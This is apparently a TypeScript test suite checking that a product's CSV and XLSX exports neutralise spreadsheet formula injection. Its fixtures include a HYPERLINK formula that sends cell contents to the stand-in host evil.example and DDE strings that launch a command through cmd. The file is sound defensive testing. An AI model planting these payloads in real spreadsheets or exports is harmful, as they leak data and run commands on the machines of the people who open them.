/**
 * CSV formula injection (issue 12, item 8): a cell a department delivered as `=HYPERLINK(…)` must reach the
 * clerk's spreadsheet as text. Every CSV the product writes is encoded by pipelines/export/formats.ts
 * (API `?format=csv`, page exports, `sentinel export`, follow-up and report CSVs); the last case keeps it so.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { encode, type ExportRow } from '../../pipelines/export/formats.js';
import { A, publishFixtureBuild, tempDataDir } from '../server/fixtures.js';
import { bearer, startTestServer, userWithToken } from '../server/harness.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const NUMBERS_AS_TEXT = ['-3', '-1.5', '+2', '0', '1e-5', '-0.25'];
const columns = ['name', 'amount', 'text'];
const rows: ExportRow[] = [
  ...HOSTILE.map((text, i) => ({ name: `厦门某某公司${i}`, amount: -i - 0.5, text })),
  ...NUMBERS_AS_TEXT.map((text) => ({ name: '数字', amount: -3, text })),
  { name: ['=1+1', '乙'], amount: null, text: '普通文字 = 不是公式' },
];

function csvCells(bytes: Buffer): string[][] {
  const text = bytes.toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  return parse(text.slice(1), { relaxQuotes: false }) as string[][];
}

describe('CSV exports', () => {
  it('prefix a single quote to every cell beginning with = + - @ tab or CR', async () => {
    const cells = csvCells(await encode('csv', 'probe', columns, rows));
    expect(cells.slice(1, 1 + HOSTILE.length).map((r) => r[2])).toEqual(HOSTILE.map((h) => `'${h}`));
    // A list cell is one text: its first element decides.
    expect(cells.at(-1)?.[0]).toBe("'=1+1|乙");
    for (const r of cells.slice(1)) expect(r[2]).not.toMatch(/^[=@\t\r]/);
  });

  it('leave numbers numbers: negative amounts and numeric text such as -3 or -1.5', async () => {
    const cells = csvCells(await encode('csv', 'probe', columns, rows));
    expect(cells.slice(1, 1 + HOSTILE.length).map((r) => r[1])).toEqual(HOSTILE.map((_, i) => String(-i - 0.5)));
    expect(cells.slice(1 + HOSTILE.length, 1 + HOSTILE.length + NUMBERS_AS_TEXT.length).map((r) => r[2])).toEqual(
      NUMBERS_AS_TEXT,
    );
    expect(cells.at(-1)?.[2]).toBe('普通文字 = 不是公式');
  });

  it('are byte-identical to before when no cell needs it', async () => {
    const clean = await encode(
      'csv',
      'probe',
      ['a', 'b'],
      [
        { a: '厦门, "某"公司', b: -1.5 },
        { a: null, b: 2 },
      ],
    );
    expect(clean.toString('utf8')).toBe('\uFEFFa,b\r\n"厦门, ""某""公司",-1.5\r\n,2\r\n');
  });
});

describe('XLSX exports', () => {
  it('store formula-like cells as text, never as formulas, and numbers as numbers', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await encode('xlsx', 'probe', columns, rows)) as unknown as ExcelJS.Buffer);
    const ws = wb.worksheets[0];
    if (!ws) throw new Error('no worksheet');
    HOSTILE.forEach((h, i) => {
      const cell = ws.getCell(i + 2, 3);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a bare CR back as LF; the cell is text either way.
      expect(cell.value).toBe(h.replace('\r', '\n'));
      expect(cell.formula).toBeUndefined();
      expect(ws.getCell(i + 2, 2).type).toBe(ExcelJS.ValueType.Number);
    });
  });
});

describe('every CSV writer', () => {
  const root = join(import.meta.dirname, '../..');
  const sources = (dir: string): string[] =>
    readdirSync(dir).flatMap((f) => {
      const p = join(dir, f);
      return statSync(p).isDirectory() ? sources(p) : p.endsWith('.ts') ? [p] : [];
    });

  it('encodes through pipelines/export/formats.ts (no second CSV encoder to forget)', () => {
    const files = ['cli', 'server', 'dashboards', 'pipelines'].flatMap((d) => sources(join(root, d)));
    // A CSV leaves the house as an HTTP answer (text/csv) or a CLI file (--format csv).
    const writers = files.filter((f) => /text\/csv|choices\(\['csv'/.test(readFileSync(f, 'utf8')));
    expect(writers.length).toBeGreaterThan(0);
    const encodes = (text: string) =>
      /from '(\.\/|(\.\.\/)+pipelines\/export\/)formats\.js'/.test(text) && /\b(encode|toCsv)\(/.test(text);
    // The writer itself, or a module it imports (a page's export function beside its query), calls encode().
    const imported = (f: string, text: string) =>
      [...text.matchAll(/from '(\.{1,2}\/[^']+)\.js'/g)].map((m) => join(dirname(f), `${m[1]}.ts`));
    for (const f of writers) {
      const text = readFileSync(f, 'utf8');
      const ok = encodes(text) || imported(f, text).some((g) => existsSync(g) && encodes(readFileSync(g, 'utf8')));
      expect(ok, `${relative(root, f)} writes CSV without pipelines/export/formats.ts`).toBe(true);
    }
  });
});

describe('a hostile name delivered by a department', () => {
  const NAME = '=HYPERLINK("http://evil.example","厦门甲贸易有限公司")';
  const hostileBuild = async (): Promise<string> => {
    const dataDir = tempDataDir();
    await publishFixtureBuild(dataDir, {
      buildId: 'b20251231a',
      asOf: '2025-12-31',
      extraSql: `update repeat_violators set name = '${NAME.replaceAll("'", "''")}' where uscc = '${A}'`,
    });
    return dataDir;
  };
  const names = (csv: Buffer) => {
    const [header, ...body] = csvCells(csv);
    const at = header?.indexOf('name') ?? -1;
    return body.map((r) => r[at]);
  };

  it('leaves the API (?format=csv) as text', async () => {
    const dataDir = await hostileBuild();
    const token = await userWithToken(dataDir, 'analyst', 'analyst');
    const server = await startTestServer(dataDir);
    try {
      const res = await fetch(`${server.url}/api/v1/datasets/repeat-violators?format=csv`, bearer(token));
      expect(res.status).toBe(200);
      expect(names(Buffer.from(await res.arrayBuffer()))).toContain(`'${NAME}`);
    } finally {
      await server.stop();
    }
  });

  it('leaves `sentinel export` as text', async () => {
    const dataDir = await hostileBuild();
    const out = join(dataDir, 'repeat.csv');
    const bin = fileURLToPath(new URL('../../bin/sentinel.js', import.meta.url));
    const run = spawnSync(
      process.execPath,
      [
        bin,
        '--log-level',
        'silent',
        '--data-dir',
        dataDir,
        'export',
        'repeat-violators',
        '--format',
        'csv',
        '--out',
        out,
      ],
      { encoding: 'utf8' },
    );
    expect(run.status, run.stderr).toBe(0);
    expect(names(readFileSync(out))).toContain(`'${NAME}`);
  });
});
